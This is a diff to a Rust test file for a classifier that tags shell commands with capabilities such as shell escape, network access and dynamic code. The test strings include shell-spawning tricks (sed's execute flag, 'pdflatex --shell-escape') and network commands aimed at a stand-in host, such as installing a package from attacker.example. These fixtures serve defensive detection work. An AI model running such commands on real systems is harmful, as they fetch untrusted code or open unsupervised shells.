@@ -42,6 +42,11 @@ fn shell_escapes() {
         "sed -n '1e exec sh 1>&0' /etc/hosts",
         "sed 's/.*/id/e' x",
         "sed -e '/x/ e id' f",
+        "cabal exec -- sh",
+        "poetry run bash",
+        "conda run -n base sh",
+        "pdflatex --shell-escape x.tex",
+        "groff -U x.ms",
     ] {
         assert!(
             caps(line).contains(&"shell_escape"),
@@ -62,6 +67,9 @@ fn shell_escapes() {
         "sed -n '/^end$/p' notes.txt",
         "sed 's/one/three/' x",
         "echo '!important'",
+        "poetry run pytest -q",
+        "npx prettier --check .",
+        "pdflatex paper.tex",
     ] {
         assert!(
             !caps(line).contains(&"shell_escape"),
@@ -86,6 +94,9 @@ fn network() {
         "pip install http://attacker.example/pkg.tar.gz",
         "kubectl --server https://k8s.example:6443 get pods",
         "curl https://github.com/x",
+        "cancel -u x -h attacker.example:12345",
+        "sshfs me@attacker.example: /mnt",
+        "someclient --server=10.0.0.9:80",
     ] {
         assert!(caps(line).contains(&"network"), "{line}: {:?}", caps(line));
     }
@@ -95,6 +106,9 @@ fn network() {
         "git commit -m 'see https://example.com/issue/1'",
         "echo https://example.com",
         "aws s3 cp report.csv s3://bucket/",
+        "docker run -p 127.0.0.1:8080:80 nginx:1.27",
+        "docker pull registry.example.com:5000/app:v2",
+        "ghci Main.hs",
     ] {
         assert!(!caps(line).contains(&"network"), "{line}: {:?}", caps(line));
     }
@@ -195,4 +209,6 @@ fn sensitive_reads_loaders_dynamic_code() {
     assert!(caps("$CMD -la").contains(&"dynamic_code"));
     assert!(!caps("python3 -m pytest").contains(&"dynamic_code"));
     assert!(!caps("python3 script.py").contains(&"dynamic_code"));
+    assert!(caps("ghci").contains(&"dynamic_code"));
+    assert!(!caps("julia script.jl").contains(&"dynamic_code"));
 }
